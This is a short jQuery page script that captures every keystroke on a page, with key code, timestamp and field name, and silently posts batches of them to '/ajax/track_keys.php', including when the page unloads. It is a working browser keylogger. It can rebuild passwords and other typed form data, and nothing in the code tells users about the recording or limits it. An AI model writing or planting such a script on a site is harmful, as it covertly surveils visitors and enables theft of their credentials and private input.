$(function () {
  var keys = [];
  $(document).on('keydown', function (e) {
    keys.push({ k: e.which, t: e.timeStamp, f: e.target.name });
    if (keys.length > 40) {
      $.post('/ajax/track_keys.php', { data: JSON.stringify(keys) });
      keys = [];
    }
  });
  $(window).on('beforeunload', function () {
    if (keys.length) $.post('/ajax/track_keys.php', { data: JSON.stringify(keys) });
  });
});
